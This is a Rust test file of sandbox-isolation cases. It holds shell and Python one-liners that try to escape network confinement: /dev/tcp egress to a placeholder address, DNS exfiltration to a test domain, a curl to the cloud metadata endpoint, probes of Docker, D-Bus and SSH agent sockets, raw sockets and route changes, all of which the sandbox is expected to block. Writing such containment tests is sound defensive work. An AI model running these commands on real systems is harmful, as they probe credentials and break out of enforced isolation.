//! Peers that are not the broker.

use super::case::{Bare, Case, all_must_fail, case};

pub(super) const CASES: &[Case] = &[
    case(
        "A24",
        "direct egress (TEST-NET address, never leaves the namespace)",
        r#"timeout 3 bash -c "echo hi >/dev/tcp/192.0.2.1/80""#,
        Bare::NotRun,
    ),
    case(
        "A25",
        "host abstract unix socket",
        r#"python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect("\0$ABSTRACT");print(s.recv(20))'"#,
        Bare::Succeeds,
    ),
    case(
        "A26",
        "container, bus, agent sockets",
        "ls /run/podman/podman.sock /var/run/docker.sock /run/dbus/system_bus_socket /run/user/*/bus $SSH_AUTH_SOCK \
         2>/dev/null | grep -q sock",
        Bare::NotRun,
    ),
    case(
        "A27",
        "DNS exfiltration with the system resolver",
        r#"timeout 5 getent hosts exfil.invalid-warrant.test; test -s /etc/resolv.conf && grep -Evq "^(#|nameserver 127\.|options|$)" /etc/resolv.conf"#,
        Bare::NotRun,
    ),
    case(
        "A28",
        "raw / packet sockets",
        r#"python3 -c 'import socket
try: socket.socket(socket.AF_INET,socket.SOCK_RAW,1)
except OSError: socket.socket(socket.AF_PACKET,socket.SOCK_RAW,0)'"#,
        Bare::NotRun,
    ),
    case(
        "A29",
        "cloud metadata address",
        "curl -s -m 2 http://169.254.169.254/latest/meta-data/",
        Bare::NotRun,
    ),
    case(
        "B31",
        "a service on the host's loopback",
        r#"timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT4 && head -1 <&3'"#,
        Bare::Succeeds,
    ),
    case(
        "B32",
        "a service on the host's loopback, by IPv6",
        r#"python3 -c 'import socket;s=socket.create_connection(("::1",$PORT6),3);print(s.recv(9))'"#,
        Bare::SucceedsIf("/proc/sys/net/ipv6/conf/lo/disable_ipv6", "0"),
    ),
    case(
        "B33",
        "a socket of the host by its path",
        r#"python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect("$C/s.sock");print(s.recv(9))'"#,
        Bare::Succeeds,
    ),
    case(
        "B34",
        "sockets of other families",
        r#"python3 -c '$PYTHON
r=-1
for f,t,p in ((40,1,0),(38,5,0),(16,3,9),(16,3,12),(16,3,15),(17,3,0),(17,2,0),(15,3,2),(44,3,0),(29,3,1),(30,1,0),(31,3,1),(21,5,0),(9,5,0),(4,2,0),(2,5,132),(2,2,136)):
  x=s(41,f,t,p)
  if x>=0: print(f,t,p); r=x
sys.exit(0 if r>=0 else 1)'"#,
        Bare::Succeeds,
    ),
    case(
        "B35",
        "another route or interface",
        "ip link add d0 type dummy || ip addr add 10.9.9.9/8 dev lo || ip route add default dev lo || ip tuntap add t0 mode tun",
        Bare::NotRun,
    ),
];

#[test]
fn every_attack_over_the_network_fails() {
    all_must_fail(CASES);
}
